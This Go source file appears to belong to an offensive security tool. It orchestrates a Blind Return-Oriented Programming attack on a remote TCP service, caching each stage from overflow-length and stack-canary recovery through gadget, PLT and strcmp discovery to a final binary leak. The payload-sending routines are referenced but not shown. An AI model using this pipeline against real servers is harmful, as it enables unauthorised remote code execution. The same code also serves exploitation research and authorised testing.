// Package session implements the BROP discovery pipeline: overflow
// length, stack canary, saved-return-address offset, stop gadget,
// gadget scanning, BROP-gadget classification, PLT recovery,
// strcmp-like filtering, and the binary leak that completes the
// exploit. Every stage is exposed as a lazily-computed, write-once
// accessor on Session so later stages can depend on earlier ones
// without re-probing the target, mirroring how the original client's
// engine object cached each discovery the first time it was asked for.
package session

import (
	"github.com/voidspace-sec/brop/internal/cluster"
	"github.com/voidspace-sec/brop/internal/oracle"
	"github.com/voidspace-sec/brop/internal/transport"
)

// MaxGadgetSearchSize bounds the linear address sweep in GetGadgets.
const MaxGadgetSearchSize uint64 = 0x2800

// Session owns the one TCP connection to the target and memoizes every
// stage of discovery against it. It is built for sequential, single-
// threaded use: stages have a strict forward dependency order (offset
// before canary before padding before return address before gadgets,
// and so on) and nothing here is safe to call concurrently.
type Session struct {
	transport transport.Transport

	overflowLength *int

	canaryComputed bool
	canaryExists   bool
	canaryValue    cluster.Frame

	returnAddressOffset *int
	possibleReturnAddr  *cluster.Frame
	padding             *cluster.Word
	stopGadget          *cluster.Gadget

	gadgetsComputed bool
	gadgets         cluster.Gadgets

	bropGadgetsComputed bool
	bropGadgets         cluster.Gadgets

	pltComputed bool
	pltItems    cluster.Gadgets

	strcmpComputed bool
	strcmpItems    cluster.Gadgets
}

// New wraps t in a fresh, unpopulated Session.
func New(t transport.Transport) *Session {
	return &Session{transport: t}
}

// Probe is a thin passthrough to the oracle for callers (tests, the
// binary-leak stage) that need a raw classification without going
// through a discovery stage.
func (s *Session) Probe(payload []byte) (oracle.ReturnCode, []byte, bool) {
	return oracle.Probe(s.transport, payload)
}

// GetOverflowLength returns the byte offset at which a filled buffer
// starts to corrupt control flow (C4).
func (s *Session) GetOverflowLength() (int, bool) {
	if s.overflowLength == nil {
		v, ok := s.computeOverflowLength()
		if !ok {
			return 0, false
		}
		s.overflowLength = &v
	}
	return *s.overflowLength, true
}

// HasCanary reports whether a stack canary sits right after the
// overflow boundary. Computing this also populates GetCanary's cache.
func (s *Session) HasCanary() bool {
	s.ensureCanary()
	return s.canaryExists
}

// GetCanary returns the recovered canary value. ok is false if no
// canary was found, or if recovery failed outright.
func (s *Session) GetCanary() (cluster.Frame, bool) {
	s.ensureCanary()
	if !s.canaryExists {
		return cluster.Frame{}, false
	}
	return s.canaryValue, true
}

func (s *Session) ensureCanary() {
	if s.canaryComputed {
		return
	}
	value, exists, ok := s.computeCanary()
	if !ok {
		return
	}
	s.canaryComputed = true
	s.canaryExists = exists
	s.canaryValue = value
}

// GetPadding returns the saved-register bytes between the canary (or
// overflow boundary, if there's no canary) and the return address (C6).
func (s *Session) GetPadding() (cluster.Word, bool) {
	if s.padding == nil {
		w, ok := s.computePadding()
		if !ok {
			return nil, false
		}
		s.padding = &w
	}
	return *s.padding, true
}

// GetReturnAddressOffset returns the total byte offset of the saved
// return address from the start of the overflow buffer (C6).
func (s *Session) GetReturnAddressOffset() (int, bool) {
	if s.returnAddressOffset == nil {
		v, ok := s.computeReturnAddressOffset()
		if !ok {
			return 0, false
		}
		s.returnAddressOffset = &v
	}
	return *s.returnAddressOffset, true
}

// GetPossibleReturnAddress returns the saved return address leaked off
// the stack byte by byte (C6).
func (s *Session) GetPossibleReturnAddress() (cluster.Frame, bool) {
	if s.possibleReturnAddr == nil {
		f, ok := s.computePossibleReturnAddress()
		if !ok {
			return cluster.Frame{}, false
		}
		s.possibleReturnAddr = &f
	}
	return *s.possibleReturnAddr, true
}

// GetStopGadget returns a gadget address whose call never returns,
// discovered as a side effect of GetReturnAddressOffset or, failing
// that, computed directly (C7).
func (s *Session) GetStopGadget() (cluster.Gadget, bool) {
	if s.stopGadget == nil {
		// GetReturnAddressOffset's padding-length search sets stopGadget
		// as a side effect once it first runs into an Infinite frame.
		if _, ok := s.GetReturnAddressOffset(); !ok {
			return cluster.Gadget{}, false
		}
	}
	if s.stopGadget == nil {
		g, ok := s.computeStopGadget()
		if !ok {
			return cluster.Gadget{}, false
		}
		s.stopGadget = &g
	}
	return *s.stopGadget, true
}

// GetGadgets returns every code address found by the linear sweep above
// the leaked return address's masked base that does not crash: both a
// normal reply and a hang count (C8).
func (s *Session) GetGadgets() (cluster.Gadgets, bool) {
	if !s.gadgetsComputed {
		g, ok := s.computeGadgets()
		if !ok {
			return nil, false
		}
		s.gadgetsComputed = true
		s.gadgets = g
	}
	return s.gadgets, true
}

// GetBROPGadgets filters GetGadgets down to those that behave like a
// clean six-register pop sled followed by ret (C9).
func (s *Session) GetBROPGadgets() (cluster.Gadgets, bool) {
	if !s.bropGadgetsComputed {
		g, ok := s.computeBROPGadgets()
		if !ok {
			return nil, false
		}
		s.bropGadgetsComputed = true
		s.bropGadgets = g
	}
	return s.bropGadgets, true
}

// GetPLTItems returns the gadget addresses that look like PLT stub
// entries (C10).
func (s *Session) GetPLTItems() (cluster.Gadgets, bool) {
	if !s.pltComputed {
		g, ok := s.computePLTItems()
		if !ok {
			return nil, false
		}
		s.pltComputed = true
		s.pltItems = g
	}
	return s.pltItems, true
}

// GetStrcmpItems filters GetPLTItems down to the ones that behave like
// strcmp under the two-argument crash probe (C11).
func (s *Session) GetStrcmpItems() (cluster.Gadgets, bool) {
	if !s.strcmpComputed {
		g, ok := s.computeStrcmpItems()
		if !ok {
			return nil, false
		}
		s.strcmpComputed = true
		s.strcmpItems = g
	}
	return s.strcmpItems, true
}

// baseParts bundles the three values every payload-crafting stage from
// C6 onward needs, so they don't each have to re-derive them.
func (s *Session) baseParts() (overflow int, canary cluster.Frame, padding cluster.Word, ok bool) {
	overflow, ok = s.GetOverflowLength()
	if !ok {
		return 0, cluster.Frame{}, nil, false
	}
	if s.HasCanary() {
		canary, _ = s.GetCanary()
	}
	padding, ok = s.GetPadding()
	if !ok {
		return 0, cluster.Frame{}, nil, false
	}
	return overflow, canary, padding, true
}
